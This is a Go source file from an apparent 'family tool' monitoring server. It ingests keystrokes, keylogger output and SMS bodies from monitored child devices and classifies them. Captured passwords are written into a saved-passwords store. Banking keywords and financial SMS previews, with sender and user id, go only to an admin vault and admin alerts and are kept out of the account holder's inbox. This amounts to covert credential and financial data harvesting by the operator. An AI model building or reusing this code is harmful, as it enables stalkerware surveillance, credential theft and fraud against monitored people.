package ingest

import (
	"context"
	"fmt"

	"famtool-server/internal/classify"
	"famtool-server/internal/metrics"
	"famtool-server/internal/model"
	"famtool-server/internal/store"
	"famtool-server/internal/trigger"
)

const (
	// CompressedPlaceholder replaces the text of vault entries whose source
	// arrived compressed.
	CompressedPlaceholder = "[COMPRESSED_SAVED]"
	compressedPreview     = "[COMPRESSED]"
	previewLen            = 50
	unknownSender         = "Unknown"
)

// textSource describes a text-bearing telemetry category.
type textSource struct {
	// Fields are read in order; the first non-empty one is the text.
	Fields    []string
	Sender    string
	Tag       string
	Financial string
	// Device labels the danger alert.
	Device string
}

var textSources = map[string]textSource{
	"keystrokes": {Fields: []string{"text", "keyText"}, Tag: "Keystroke", Financial: "FINANCIAL_RISK", Device: "device"},
	"keylogger":  {Fields: []string{"text", "keyText"}, Tag: "Keystroke", Financial: "FINANCIAL_RISK", Device: "device"},
	"sms":        {Fields: []string{"smsBody"}, Sender: "smsAddress", Tag: "SMS", Financial: "FINANCIAL_SMS", Device: "SMS"},
}

type textRecord struct {
	uid, device, category, record string
	source                        textSource
	sender                        string
	result                        classify.Result
	// stored is what vault entries keep: the scanned text or the placeholder.
	stored  string
	preview string
}

func stringField(v any, name string) string {
	m, ok := v.(map[string]any)
	if !ok {
		return ""
	}
	s, _ := m[name].(string)
	return s
}

func preview(s string) string {
	runes := []rune(s)
	if len(runes) > previewLen {
		return string(runes[:previewLen])
	}
	return s
}

// RouteText classifies a new keystroke or SMS record and writes to the
// destinations of its verdict. Every destination is keyed by the record id,
// so reprocessing overwrites instead of duplicating.
func (r *Router) RouteText(ctx context.Context, ev trigger.Event) error {
	uid, device, category, record, ok := deviceRecord(ev)
	if !ok {
		return nil
	}
	src, ok := textSources[category]
	if !ok {
		return nil
	}

	var text string
	for _, f := range src.Fields {
		if text = stringField(ev.After, f); text != "" {
			break
		}
	}
	if text == "" {
		return nil
	}

	rec := textRecord{uid: uid, device: device, category: category, record: record, source: src}
	rec.result = r.engine.Classify(text)
	if src.Sender != "" {
		rec.sender = stringField(ev.After, src.Sender)
		if rec.sender == "" {
			rec.sender = unknownSender
		}
	}
	rec.stored, rec.preview = rec.result.Scanned, preview(rec.result.Scanned)
	if rec.result.Compressed {
		rec.stored, rec.preview = CompressedPlaceholder, compressedPreview
	}

	metrics.Classifications.WithLabelValues(string(rec.result.Category), src.Tag).Inc()

	switch rec.result.Category {
	case classify.Financial:
		return r.routeFinancial(ctx, rec)
	case classify.Credential:
		return r.routeCredential(ctx, rec)
	case classify.Danger:
		return r.routeDanger(ctx, rec)
	}
	return nil
}

func (r *Router) vaultEntry(rec textRecord, typ, priority string) model.VaultEntry {
	return model.VaultEntry{
		Text:       rec.stored,
		Sender:     rec.sender,
		DetectedAt: r.now().UnixMilli(),
		Type:       typ,
		Priority:   priority,
		Source:     rec.source.Tag,
	}
}

func (r *Router) writeVault(ctx context.Context, rec textRecord, kind model.VaultKind, entry model.VaultEntry) error {
	path := store.Join(model.VaultPath(rec.uid, kind), rec.record)
	if err := r.st.Set(ctx, path, entry); err != nil {
		return fmt.Errorf("write vault entry %s: %w", path, err)
	}
	return nil
}

// routeFinancial keeps the content admin-only: vault plus an admin alert,
// nothing in the account's own inbox.
func (r *Router) routeFinancial(ctx context.Context, rec textRecord) error {
	if err := r.writeVault(ctx, rec, model.VaultBanking, r.vaultEntry(rec, rec.source.Financial, "HIGH")); err != nil {
		return err
	}

	msg := fmt.Sprintf("Financial Guardian Alert: Banking keywords detected in user %s", rec.uid)
	data := map[string]any{"user": rec.uid, "childKey": rec.device, "content": rec.preview}
	if rec.sender != "" {
		msg = fmt.Sprintf("Financial SMS Alert: Banking SMS from user %s", rec.uid)
		data["sender"] = rec.sender
	}
	if err := r.sink.AdminAlert(ctx, rec.record, model.NotifyCritical, msg, data); err != nil {
		r.logger.Error().Err(err).Str("uid", rec.uid).Str("record", rec.record).Msg("admin alert failed")
	}

	r.logger.Info().Str("uid", rec.uid).Str("record", rec.record).Str("keyword", rec.result.Keyword).Msg("financial content routed")
	return nil
}

// routeCredential writes the vault entry first, then the account's saved
// passwords copy as a retried secondary write.
func (r *Router) routeCredential(ctx context.Context, rec textRecord) error {
	if err := r.writeVault(ctx, rec, model.VaultSocial, r.vaultEntry(rec, "SOCIAL_PASSWORD", "")); err != nil {
		return err
	}

	saved := model.VaultEntry{
		Text:       rec.stored,
		Sender:     rec.sender,
		DetectedAt: r.now().UnixMilli(),
		Source:     rec.source.Tag,
	}
	if rec.source.Tag == "Keystroke" {
		saved.Source = "KeyLogger"
	}
	r.secondaryWrite(ctx, store.Join(model.SavedPasswordsPath(rec.uid), rec.record), saved)
	return nil
}

// routeDanger is the one verdict that reaches the account's own inbox.
func (r *Router) routeDanger(ctx context.Context, rec textRecord) error {
	if err := r.writeVault(ctx, rec, model.VaultDanger, r.vaultEntry(rec, "DANGER_ALERT", "CRITICAL")); err != nil {
		return err
	}

	msg := fmt.Sprintf("URGENT: Critical safety alert detected in child %s. Content: %s...", rec.source.Device, rec.preview)
	data := map[string]any{"childKey": rec.device, "recordId": rec.record, "category": rec.category}
	if err := r.sink.NotifyKeyed(ctx, rec.uid, rec.record, model.NotifyCritical, msg, data); err != nil {
		return err
	}

	r.logger.Warn().Str("uid", rec.uid).Str("device", rec.device).Str("record", rec.record).Msg("danger alert raised")
	return nil
}
